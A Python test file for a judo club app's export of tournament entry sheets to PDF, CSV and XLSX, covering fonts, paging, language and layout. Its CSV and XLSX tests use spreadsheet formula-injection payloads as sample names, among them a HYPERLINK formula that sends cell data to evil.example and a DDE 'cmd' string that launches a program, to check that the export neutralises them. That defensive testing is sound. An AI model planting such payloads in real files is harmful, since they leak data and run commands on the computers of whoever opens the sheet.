"""Entry sheets as the coach gets them: the PDF read back with pypdf, the XLSX with openpyxl,
the CSV with `csv`, as a federation's portal or the organiser would read them."""

from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from judo_manager.exports.model import Column, Group, Row, Sheet
from judo_manager.exports.service import render
from judo_manager.i18n import speaking
from tests.export_sheets import CONFLICTS, NAMES, big_sheet, entry_row, entry_sheet
from tests.media_files import photo_bytes

ACCENTED = ("Öztürk, Ayşe", "Nguyễn Văn An")
CJK = "山田太郎"


def _pdf_text(data: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


def _embedded_fonts(data: bytes) -> dict[str, bool]:
    """{font name: whether its file is inside the PDF} for every font the pages use."""
    found: dict[str, bool] = {}
    for page in PdfReader(io.BytesIO(data)).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descendant = font["/DescendantFonts"][0].get_object()
            descriptor = descendant["/FontDescriptor"].get_object()
            found[str(font["/BaseFont"])] = "/FontFile2" in descriptor
    return found


def _three_groups() -> Sheet:
    return entry_sheet(
        [
            (("U18", "Women", "-48 kg"), [entry_row(ACCENTED[0]), entry_row("Siti Rahma")]),
            (
                ("U18", "Men", "-66 kg"),
                [entry_row(ACCENTED[1], problems=CONFLICTS), entry_row(CJK)],
            ),
            (("U21", "Men", "+100 kg"), [entry_row("Budi Santoso")]),
        ]
    )


def test_the_pdf_lists_each_group_under_its_heading_with_its_total() -> None:
    (text,) = _pdf_text(render(_three_groups(), "pdf"))

    order = [
        "Dojo Garuda",
        "Jakarta Open 2026",
        "GOR Jakarta",
        "U18 · Women · -48 kg",
        ACCENTED[0],
        "Siti Rahma",
        "2 entries",
        "U18 · Men · -66 kg",
        ACCENTED[1],
        CJK,
        "2 entries",
        "U21 · Men · +100 kg",
        "Budi Santoso",
        "1 entries",
        "5 entries, 1 with conflicts",
        "Coach's signature and date",
        "Page 1 of 1",
    ]
    cursor = 0
    for part in order:
        found = text.find(part, cursor)
        assert found >= 0, f"{part!r} is not after {text[:cursor]!r}"
        cursor = found + len(part)
    # The rows keep the sheet's numbers, through the whole sheet.
    assert re.search(r"^5 Budi Santoso", text, re.MULTILINE), text
    assert "! No. Name Birth year Belt Weight Club Licence" in text


def test_names_in_any_script_come_back_from_the_pdf_as_they_were_written() -> None:
    data = render(_three_groups(), "pdf")
    (text,) = _pdf_text(data)

    for name in (*ACCENTED, CJK):
        assert name in text
    fonts = _embedded_fonts(data)
    # Subsets ("MPDFAA+"), of the regular and bold faces and of the CJK fallback.
    assert {name.split("+")[1] for name in fonts} == {
        "DejaVuSansBook",
        "DejaVuSansBold",
        "DroidSansFallback",
    }
    assert all(fonts.values()), "every font must be embedded, or another computer shows boxes"


def test_a_sheet_without_cjk_names_carries_no_cjk_font() -> None:
    sheet = entry_sheet([(("U18", "Men", "-66 kg"), [entry_row(name) for name in ACCENTED])])

    fonts = _embedded_fonts(render(sheet, "pdf"))

    assert not any("Droid" in name for name in fonts), fonts


def test_a_row_with_conflicts_is_marked_and_lists_them_under_it() -> None:
    (text,) = _pdf_text(render(_three_groups(), "pdf"))

    assert "! Conflicts (listed under the row)" in text  # the legend
    marked = text.index(f"! 3 {ACCENTED[1]}")
    listed = text.index("; ".join(CONFLICTS))
    assert marked < listed < text.index(CJK)
    assert f"4 {CJK}" in text  # the next row is not marked


def test_a_long_sheet_numbers_its_pages_and_repeats_the_table_header_on_each() -> None:
    pages = _pdf_text(render(big_sheet(1000), "pdf"))
    entry = re.compile(rf"^(?:! )?(\d+) (?:{'|'.join(n[:4] for n in NAMES)})", re.MULTILINE)

    assert len(pages) > 20
    for number, text in enumerate(pages, start=1):
        assert f"Page {number} of {len(pages)}" in text
        assert "! No. Name Birth year Belt Weight Club Licence" in text  # rows on every page
        if number > 1:
            assert "Jakarta Open 2026 · Dojo Garuda" in text  # the running title
    continued = [text for text in pages[1:] if "(continued)" in text]
    assert len(continued) > 10, "groups of 50 rows go on to the next page, and say so"
    whole = "\n".join(pages)
    # Every row is there once, in order, and numbered through the sheet.
    assert [int(n) for n in entry.findall(whole)] == list(range(1, 1001))
    assert whole.count("50 entries") == 20
    assert "1000 entries, 160 with conflicts" in whole


def test_a_sheet_of_over_a_thousand_pages_numbers_each_in_full() -> None:
    # Rows tall with their problems, nine to a page: 9,500 of them pass 1,000 pages.
    problems = ("Medical certificate expired " * 12, "Licence missing " * 12)
    rows = [entry_row(f"Pratama, Budi {n}", problems=problems) for n in range(9500)]
    sheet = entry_sheet([(("U18", "Men", "-66 kg"), rows)])

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # fpdf2 warns when the count outgrows its room
        reader = PdfReader(io.BytesIO(render(sheet, "pdf")))

    count = len(reader.pages)
    assert count > 1000
    # The numbers read as the coach's language writes them, on the first page and the last.
    assert f"Page 1 of {count:,}" in reader.pages[0].extract_text()
    assert f"Page {count:,} of {count:,}" in reader.pages[-1].extract_text()
    with speaking("id"):
        last = PdfReader(io.BytesIO(render(sheet, "pdf"))).pages[-1].extract_text()
    assert f"Halaman {count:,} dari {count:,}".replace(",", ".") in last


def test_a_thousand_rows_make_a_small_pdf() -> None:
    latin, with_cjk = render(big_sheet(1000, cjk=False), "pdf"), render(big_sheet(1000), "pdf")

    # Only the glyphs used are embedded: the fonts' files are 0.7 MB and 4 MB whole.
    assert len(latin) < 250_000
    assert len(with_cjk) < 300_000


def test_text_too_long_for_its_column_is_cut_with_an_ellipsis_not_run_over() -> None:
    name = "Maximiliano Alexander " + "Fernández " * 40 + "THE-END"
    club = "Perguruan Judo Nasional Cabang Jakarta Selatan Kebayoran Baru"
    sheet = entry_sheet([(("U18", "Men", "-66 kg"), [entry_row(name, club=club)])])

    (text,) = _pdf_text(render(sheet, "pdf"))

    assert "Maximiliano Alexander Fernández" in text
    assert "THE-END" not in text
    assert "…" in text
    # A shorter text that doesn't fit one line wraps and stays whole.
    assert "Kebayoran Baru" in text


def test_the_pdf_speaks_the_coachs_language() -> None:
    with speaking("id"):
        (text,) = _pdf_text(render(_three_groups(), "pdf"))

    assert "Halaman 1 dari 1" in text
    assert "(tercantum di bawah barisnya)" in text


def test_the_logo_heads_the_pdf_and_a_damaged_one_costs_only_the_logo() -> None:
    logo = photo_bytes((1200, 600), kind="PNG")
    groups = [(("U18", "Men", "-66 kg"), [entry_row("Budi Santoso")])]

    with_logo = PdfReader(io.BytesIO(render(entry_sheet(groups, logo=logo), "pdf")))
    damaged = render(entry_sheet(groups, logo=b"\x89PNG\r\n\x1a\n broken"), "pdf")

    images = with_logo.pages[0].images
    assert len(images) == 1
    assert images[0].image.width <= 600  # drawn 18 mm high: a large logo is made smaller
    assert "Budi Santoso" in _pdf_text(damaged)[0]
    assert not PdfReader(io.BytesIO(damaged)).pages[0].images


def test_odd_but_possible_text_from_a_restored_backup_renders() -> None:
    rows = [
        Row(cells=("Tab\tand\nnewline", "", "", "", "", ""), problems=("",)),
        Row(cells=("Short row",)),  # fewer cells than columns
        Row(cells=("emoji 🥋 and a zero-width\u200bspace", "1", "2", "3", "4", "5", "extra")),
    ]
    sheet = Sheet(
        title="",
        details=(),
        organisation=None,
        logo=None,
        group_columns=(),
        columns=(Column("Name", 0.0), Column("Year", -1.0, "right")),
        groups=(
            Group(values=(), rows=rows, total=""),
            Group(values=("Empty",), rows=(), total="0"),
        ),
        problems_label="",
        summary="",
    )

    (text,) = _pdf_text(render(sheet, "pdf"))

    assert "Tab and newline" in text
    assert "Short row" in text
    assert "Page 1 of 1" in text


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_has_a_bom_and_one_row_per_entry_with_its_group_and_conflicts() -> None:
    data = render(_three_groups(), "csv")

    assert data.startswith(b"\xef\xbb\xbf")  # how Excel knows it is UTF-8
    rows = _csv_rows(data)
    assert rows[0] == [
        "Age category", "Sex", "Weight class",
        "No.", "Name", "Birth year", "Belt", "Weight", "Club", "Licence",
        "Conflicts",
    ]  # fmt: skip
    assert len(rows) == 6
    assert rows[1][:5] == ["U18", "Women", "'-48 kg", "1", ACCENTED[0]]
    assert rows[3][3:5] == ["3", ACCENTED[1]]
    assert rows[3][-1] == "; ".join(CONFLICTS)
    assert rows[4][4] == CJK and rows[4][-1] == ""
    assert rows[5][2] == "'+100 kg"


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("+62 812 555", "'+62 812 555"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("  =1+1", "'=1+1"),  # spaces before don't hide it
        ("\t=1+1", "'=1+1"),
        ("Budi = Santoso", "Budi = Santoso"),
        ('Say "hi", Budi', 'Say "hi", Budi'),
    ],
)  # fmt: skip
def test_a_name_that_starts_like_a_formula_is_kept_as_text_in_the_csv(
    name: str, written: str
) -> None:
    sheet = entry_sheet([(("U18", "Men", "-66 kg"), [entry_row(name)])])

    (_header, row) = _csv_rows(render(sheet, "csv"))

    assert row[4] == written


def test_the_xlsx_holds_the_same_rows_as_text_with_a_bold_frozen_header() -> None:
    formula = '=HYPERLINK("http://evil.example","x")'
    sheet = entry_sheet(
        [
            (("U18", "Men", "-66 kg"), [entry_row(ACCENTED[1], problems=CONFLICTS)]),
            (("U18", "Men", "-73 kg"), [entry_row(CJK), entry_row(formula)]),
        ]
    )
    data = render(sheet, "xlsx")

    workbook = load_workbook(io.BytesIO(data))
    worksheet = workbook.active
    rows = [[cell.value for cell in row] for row in worksheet.iter_rows()]
    assert rows[0][:5] == ["Age category", "Sex", "Weight class", "No.", "Name"]
    assert rows[0][-1] == "Conflicts"
    assert rows[1] == ["U18", "Men", "-66 kg", "1", ACCENTED[1], "2009", "Yellow", "65.5 kg",
                       "Dojo Garuda", "LIC-0042", "; ".join(CONFLICTS)]  # fmt: skip
    assert rows[2][4] == CJK and rows[2][-1] is None
    assert rows[3][4] == formula
    assert all(cell.data_type == "s" for row in worksheet.iter_rows() for cell in row
               if cell.value is not None)  # fmt: skip
    assert all(cell.font.b for cell in worksheet[1])
    assert worksheet.freeze_panes == "A2"
    assert worksheet.column_dimensions["E"].width > worksheet.column_dimensions["B"].width
    # Nothing in the file is a formula a spreadsheet would run.
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_a_thousand_rows_make_a_csv_and_an_xlsx_of_every_row() -> None:
    sheet = big_sheet(1000)

    assert len(_csv_rows(render(sheet, "csv"))) == 1001
    assert load_workbook(io.BytesIO(render(sheet, "xlsx"))).active.max_row == 1001
